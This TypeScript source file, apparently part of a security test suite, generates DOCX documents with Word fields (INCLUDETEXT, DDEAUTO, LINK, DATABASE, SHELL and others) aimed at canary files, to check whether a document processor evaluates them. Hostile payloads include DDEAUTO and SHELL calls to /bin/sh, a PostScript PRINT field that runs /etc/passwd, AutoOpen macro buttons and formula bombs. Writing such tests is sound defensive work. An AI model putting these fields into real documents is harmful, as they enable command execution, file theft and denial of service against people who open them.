/** Fields that read files, call programs or ask the network, as Word evaluates them. */
import type { Case, Targets } from '../case.ts';
import { attackDocx, escapeXml, field, NAMESPACES, paragraph, text } from '../docx.ts';
import { everywhere } from './linked-pictures.ts';

/** The paths and addresses of canary files with this name; `\\` is how a field writes `\`. */
const sources = ({ folders, web }: Targets, name: string): string[] => [
  ...folders.map((folder, i) => (i === 0 ? `${folder}/${name}` : `file://${folder}/${name}`)),
  ...web.map((origin) => `${origin}/${name}`),
];

const textNames = ['canary.txt', 'canary.html', 'canary.docx'];

const texts = (targets: Targets): string[] => [
  ...textNames.flatMap((name) => sources(targets, name)),
  ...targets.environments,
];

const fieldsDocx = (instructions: readonly string[]): Buffer =>
  attackDocx({
    body: instructions
      .map(
        (instruction) =>
          paragraph(field(instruction)) +
          paragraph(
            `<w:fldSimple w:instr="${escapeXml(instruction)}" w:dirty="true">${text('old')}</w:fldSimple>`,
          ),
      )
      .join(''),
    settings: { content: '<w:updateFields w:val="true"/>' },
  });

const program = '/bin/sh';

export const fields: readonly Case[] = [
  {
    name: 'INCLUDEPICTURE',
    build: (targets) =>
      fieldsDocx(
        everywhere(targets).flatMap((url) => [
          `INCLUDEPICTURE "${url}" \\d`,
          `INCLUDEPICTURE "${url}" \\* MERGEFORMATINET`,
        ]),
      ),
  },
  {
    name: 'INCLUDETEXT',
    build: (targets) =>
      fieldsDocx(
        texts(targets).flatMap((url) => [
          `INCLUDETEXT "${url}"`,
          `INCLUDETEXT "${url}" bookmark \\! \\c HTML`,
        ]),
      ),
  },
  {
    name: 'DDE and DDEAUTO',
    build: (targets) =>
      fieldsDocx(
        texts(targets).flatMap((url) => [
          `DDEAUTO soffice "${url}" bookmark`,
          `DDE Excel "${url}" R1C1 \\a \\t`,
          `DDEAUTO ${program} "-c 'cat ${url}'"`,
        ]),
      ),
  },
  {
    name: 'LINK, IMPORT and EMBED',
    build: (targets) =>
      fieldsDocx(
        texts(targets).flatMap((url) => [
          `LINK Word.Document.12 "${url}" "" \\a \\p`,
          `LINK Excel.Sheet.12 "${url}" "Sheet1!R1C1" \\a \\t`,
          `IMPORT "${url}" \\d`,
          `EMBED Package "${url}"`,
        ]),
      ),
  },
  {
    name: 'RD, TOC, AUTOTEXT and GLOSSARY',
    build: (targets) =>
      fieldsDocx([
        ...texts(targets).flatMap((url) => [`RD "${url}" \\f`, `AUTOTEXT "${url}"`, `GLOSSARY "${url}"`]),
        'TOC \\f \\o "1-9" \\h',
        'INDEX \\e',
        'BIBLIOGRAPHY',
      ]),
  },
  {
    name: 'DATABASE, MERGEFIELD and mail merge',
    build: (targets) => {
      const urls = texts(targets);
      return attackDocx({
        body: urls
          .flatMap((url) => [
            `DATABASE \\d "${url}" \\c "DSN=x;DBQ=${url}" \\s "SELECT * FROM t" \\h`,
            'MERGEFIELD name',
            `INCLUDETEXT "{ MERGEFIELD ${url} }"`,
            'NEXT',
          ])
          .map((instruction) => paragraph(field(instruction)))
          .join(''),
        settings: {
          content: `<w:mailMerge><w:mainDocumentType w:val="formLetters"/><w:linkToQuery/><w:dataType w:val="textFile"/><w:connectString w:val="${urls[0]}"/><w:query w:val="SELECT * FROM ${urls[0]}"/><w:dataSource r:id="rId1"/><w:headerSource r:id="rId2"/><w:odso><w:udl w:val="Provider=x;Data Source=${urls[0]}"/><w:src r:id="rId3"/></w:odso></w:mailMerge>`,
          relationships: [
            ...[
              `file://${targets.folders[0]}/canary.csv`,
              `${targets.web[0]}/canary.csv`,
              `file://${targets.folders[0]}/canary.txt`,
            ].map((target, i) => ({ id: `rId${i + 1}`, type: 'mailMergeSource', target })),
          ],
        },
      });
    },
  },
  {
    name: 'fields that call',
    build: ({ web, folders }) =>
      fieldsDocx([
        'MACROBUTTON AutoOpen click',
        `MACROBUTTON "vnd.sun.star.script:x.y?language=Python&location=share" click`,
        'PRINT 27"%!PS (/etc/passwd) run"',
        `ADDIN ${folders[0]}/canary.docx`,
        'FILLIN "name?" \\d "x"',
        'ASK x "name?"',
        `HYPERLINK "${web[0]}/canary.png" \\o tip \\t _blank`,
        `HYPERLINK "file://${folders[0]}/canary.txt"`,
        'SHELL "/bin/sh"',
        `CONTROL Forms.CommandButton.1 \\s "${web[0]}"`,
      ]),
  },
  {
    name: 'variables and properties that refer to themselves',
    build: () => {
      const variables = `<w:docVars>${['a', 'b'].map((name) => `<w:docVar w:name="${name}" w:val="{ DOCVARIABLE ${name === 'a' ? 'b' : 'a'} }"/>`).join('')}</w:docVars>`;
      return attackDocx({
        body: `${[
          'DOCVARIABLE a',
          'DOCVARIABLE b',
          'DOCPROPERTY a',
          'REF self',
          'STYLEREF self',
          'QUOTE "{ QUOTE { REF self } }"',
          'SET self "{ REF self }"',
        ]
          .map((instruction) =>
            paragraph(
              `<w:bookmarkStart w:id="1" w:name="self"/>${field(instruction)}<w:bookmarkEnd w:id="1"/>`,
            ),
          )
          .join('')}${paragraph(field(`IF ${field('REF self')} = 1 a b`))}`,
        settings: { content: variables },
        parts: [{ name: 'word/extra.xml', data: `<x ${NAMESPACES}/>` }],
      });
    },
  },
  {
    name: 'formulas that explode',
    build: () =>
      fieldsDocx([
        '= 9^9^9^9^9',
        '= 1/0',
        '= SUM(ABOVE) ^ 99999999',
        `= ${'('.repeat(5_000)}1${')'.repeat(5_000)}`,
        `= ${'9'.repeat(50_000)}`,
        `= 1 \\# "0.${'0'.repeat(10_000)}"`,
      ]),
  },
];
